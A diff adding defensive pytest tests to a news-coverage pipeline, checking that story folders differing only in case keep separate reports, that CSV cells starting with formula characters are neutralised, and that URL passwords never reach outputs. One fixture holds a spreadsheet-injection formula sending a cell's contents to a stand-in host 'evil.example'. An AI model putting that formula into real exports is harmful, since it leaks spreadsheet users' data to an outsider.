@@ -318,3 +318,88 @@ if __name__ == "__main__":  # the README's table of hostile raw/ entries: one ch
             else:
                 outcome = ("article; " if page["ok"] else "error: ") + "; ".join(page["errors"])
             print(f"| {name} | {outcome} | {result['peak_mb']} | {result['cpu_seconds']} |")
+
+
+# --- issue 31: data lost, and exports a spreadsheet or a reader could be attacked through ---------------------
+
+
+def test_story_folders_that_differ_only_in_case_keep_their_own_reports(tmp_path):
+    """raw/Bridge/ and raw/bridge/ both wrote processed/stories/bridge/: one story's report and coverage were
+    overwritten and the index linked twice to the same file."""
+    import re
+
+    import pandas as pd
+
+    from presslens.pipeline import run_pipeline
+    from tests.conftest import EXAMPLE
+
+    raw, out = tmp_path / "raw", tmp_path / "out"
+    for folder, page in (("Bridge", "northshore-daily.txt"), ("bridge", "calder-courier.html")):
+        (raw / folder).mkdir(parents=True)
+        (raw / folder / page).write_bytes((EXAMPLE / page).read_bytes())
+    run_pipeline(raw, out, workers=1)
+    assert set(pd.read_csv(out / "stories.csv")["story"]) == {"Bridge", "bridge"}
+    links = re.findall(r'href="(stories/[^"]+/report.html)"', (out / "report.html").read_text(encoding="utf-8"))
+    assert len(links) == len(set(links)) == 2
+    for link in links:
+        coverage = pd.read_csv(out / link.replace("report.html", "coverage.csv"))
+        story = coverage["story"].unique().tolist()
+        assert len(story) == 1 and f"Story <code>{story[0]}</code>" in (out / link).read_text(encoding="utf-8")
+    assert (out / "stories" / "bridge" / "report.html").exists()  # an id that is a slug keeps its own name
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
+
+
+@pytest.fixture(scope="module")
+def exported_run(tmp_path_factory):
+    """The bundled example with an outlet name that is a spreadsheet formula and a URL with a password."""
+    import shutil
+
+    from presslens.pipeline import run_pipeline
+    from tests.conftest import EXAMPLE
+
+    root = tmp_path_factory.mktemp("exports")
+    raw, out = root / "raw", root / "out"
+    shutil.copytree(EXAMPLE, raw / EXAMPLE.name)
+    sidecar = {"outlet": FORMULA, "url": "https://reader:s3cret@northshore.example/news/bridge"}
+    (raw / EXAMPLE.name / "northshore-daily.txt.meta.json").write_text(json.dumps(sidecar))
+    run_pipeline(raw, out, workers=1)
+    return raw, out
+
+
+def test_formulas_are_neutralised_in_every_csv_unless_asked_not_to(exported_run, tmp_path):
+    """Cells starting with = + - @ went verbatim into every CSV: a spreadsheet user opening them ran formulas."""
+    import shutil
+
+    import pandas as pd
+
+    from presslens.cli import main
+    from presslens.pipeline import run_pipeline
+
+    raw, out = exported_run
+    for csv in [*out.glob("*.csv"), *out.glob("stories/*/coverage.csv")]:
+        for cell in pd.read_csv(csv, dtype=str, keep_default_na=False).to_numpy().ravel():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (csv.name, cell)
+    assert "'" + FORMULA in set(pd.read_csv(out / "articles.csv")["outlet"])
+    assert FORMULA in set(pd.read_parquet(out / "articles.parquet")["outlet"])  # Parquet keeps the text
+    exported = tmp_path / "coverage.csv"
+    assert main(["export", "coverage", "--out", str(out), "-o", str(exported)]) == 0
+    assert not any(line.startswith("=") or ",=" in line for line in exported.read_text().splitlines())
+    assert main(["export", "articles", "--out", str(out), "-o", str(exported), "--raw-csv"]) == 0
+    assert FORMULA in set(pd.read_csv(exported)["outlet"])  # the option keeps them as they are
+    again = tmp_path / "again"
+    shutil.copytree(out, again)
+    summary = run_pipeline(raw, again, workers=1, raw_csv=True)  # the setting rewrites every story's CSVs
+    assert summary.processed == 0 and summary.tables.rebuilt_stories == summary.tables.stories
+    assert FORMULA in set(pd.read_csv(again / "articles.csv")["outlet"])
+
+
+def test_credentials_in_a_url_never_reach_tables_or_records(exported_run):
+    """A URL with user:password@ was stored verbatim in the tables and the article records."""
+    import pandas as pd
+
+    _raw, out = exported_run
+    for path in [*out.glob("*.csv"), *out.glob("*.parquet"), *out.glob("articles/*.json"), *out.rglob("*.html")]:
+        assert b"s3cret" not in path.read_bytes(), path.name
+    assert "https://northshore.example/news/bridge" in set(pd.read_csv(out / "articles.csv")["url"])
